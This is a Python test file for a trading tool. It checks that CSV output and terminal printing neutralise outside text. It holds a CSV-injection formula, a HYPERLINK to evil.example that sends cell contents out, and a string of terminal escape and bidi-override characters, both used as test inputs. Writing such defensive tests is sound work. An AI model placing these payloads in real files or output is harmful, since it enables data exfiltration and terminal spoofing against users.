"""Text from outside: no spreadsheet takes it for a formula, no terminal for a command."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tradinghf._outside_text import defused, defused_table, printable, undefused
from tradinghf.cli import main
from tradinghf.evaluation import write_table
from tradinghf.market import synthetic

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
TERMINAL = "\x1b]0;owned\x07\x9b31m\u202etxt"


@given(st.text())
def test_what_is_defused_begins_no_formula_and_comes_back(text: str) -> None:
    assert undefused(str(defused(text))) == text
    assert str(defused(text))[:1] not in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u2212")


@given(st.text())
def test_what_is_printed_holds_no_command(text: str) -> None:
    said = printable(text)
    assert all(c in "\t\n" or not (c < " " or "\x7f" <= c <= "\x9f") for c in said)
    assert printable(said) == said


def test_numbers_stay_numbers() -> None:
    table = pd.DataFrame({"=a": [-1.5], "b": ["-1.5"], "c": [True], "d": [None]})
    told = defused_table(table)
    assert list(told) == ["'=a", "b", "c", "d"]
    assert told.iloc[0].tolist() == [-1.5, "'-1.5", True, None]


@pytest.fixture
def bars(tmp_path: Path) -> Path:
    """Bars of an asset whose name is made to be run."""
    frame = synthetic(seed=1, bars=400, assets=1).to_long().assign(symbol=FORMULA)
    frame.to_csv(tmp_path / "bars.csv", index=False)
    return tmp_path / "bars.csv"


def cells(path: Path) -> list[str]:
    with path.open(newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_no_table_that_a_command_writes_holds_a_formula(bars: Path, tmp_path: Path) -> None:
    out = tmp_path / "signal.csv"
    assert main(["signal", "sma_cross", "--data", str(bars), "--out", str(out)]) == 0
    assert f"'{FORMULA}" in cells(out)
    assert FORMULA not in cells(out)
    write_table(pd.DataFrame({"name": [FORMULA], "x": [-1.0]}), tmp_path / "t.csv")
    assert cells(tmp_path / "t.csv") == ["name", "x", f"'{FORMULA}", "-1.0"]


def test_a_name_from_a_file_sends_no_command_to_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    frame = synthetic(seed=1, bars=400, assets=1).to_long().assign(symbol=TERMINAL)
    path = tmp_path / f"n{TERMINAL}.csv"
    frame.to_csv(path, index=False)
    assert main(["data", "show", str(path)]) == 0
    assert main(["data", "show", str(tmp_path / f"none{TERMINAL}.csv")]) == 2
    said = capsys.readouterr()
    assert "\\x1b]0;owned" in said.out
    assert "\\x1b]0;owned" in said.err
    assert not set("\x1b\x07\x9b\u202e") & set(said.out + said.err)
